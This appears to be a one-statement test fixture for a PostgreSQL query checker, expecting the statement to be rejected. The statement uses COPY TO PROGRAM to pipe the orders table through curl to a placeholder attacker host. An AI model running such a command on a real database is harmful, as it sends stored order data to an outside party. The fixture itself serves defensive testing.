-- dialect: postgres
-- expect: not_allowed
COPY orders TO PROGRAM 'curl -d @- http://evil.example'
